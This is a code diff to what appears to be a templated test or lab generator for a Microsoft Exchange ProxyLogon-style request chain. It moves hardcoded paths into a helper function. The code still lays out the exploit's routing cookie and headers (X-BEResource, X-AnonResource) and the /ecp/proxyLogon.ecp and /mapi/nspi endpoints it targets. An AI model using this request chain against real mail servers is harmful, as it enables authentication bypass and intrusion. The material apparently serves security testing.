@@ -70,6 +70,19 @@ def target_for(step, dynamic):
     return path + ("?" + urllib.parse.urlencode(pairs) if pairs else "")
 
 
+def after_default(step, name, part=""):
+    # what the copy appended to a command-line default (the marks may have changed it)
+    if ALTERED:
+        return "/alt-" + name.lower()
+    pairs = [(k.lower(), v) for k, v in STEPS[step][3] + STEPS[step][2]]
+    value = next(v for k, v in pairs if k == name.lower())
+    if part:
+        value = urllib.parse.unquote(value.split(part, 1)[1].split(";", 1)[0])
+    for default in ("localhost@lab.invalid", "administrator@lab.invalid"):
+        value = value.removeprefix(default)
+    return value
+
+
 def body_of(text):
     return (b"alt:" if ALTERED else b"") + text.encode("utf-8")
 """
@@ -81,7 +94,7 @@ class MailChain:
 
     def cookie(self):
         o = self.options
-        routed = urllib.parse.quote(f"{o.target}@{o.domain}/ews/exchange.asmx?a=~1942062522", safe="@/~=?")
+        routed = urllib.parse.quote(f"{o.target}@{o.domain}" + after_default(0, "cookie", "X-BEResource="), safe="@/~=?")
         backend = o.domain if o.domain else "localhost"
         return "; ".join([f"X-BEResource={routed}", "X-AnonResource=true", f"X-AnonResource-Backend={backend}"])
 
@@ -93,11 +106,11 @@ class MailChain:
 
     ${adef}def run(self):
         o = self.options
-        status, _ = ${aw}self.step(0, {"cookie": self.cookie()}, {"Email": o.mailbox + "/mapi/nspi"})
+        status, _ = ${aw}self.step(0, {"cookie": self.cookie()}, {"Email": o.mailbox + after_default(0, "Email")})
         if status >= 500:
             return {"reachable": False}
         document = json.dumps({"mailbox": o.mailbox, "requestKind": "identity", "seq": 1}, sort_keys=True)
-        routed = {"x-beresource": f"{o.target}@{o.domain}/ecp/proxyLogon.ecp"}
+        routed = {"x-beresource": f"{o.target}@{o.domain}" + after_default(1, "x-beresource")}
         status, data = ${aw}self.step(1, routed, body=body_of(document))
         who = data.decode("utf-8", "replace").strip() if status == 200 else ""
         who = who or "anonymous"
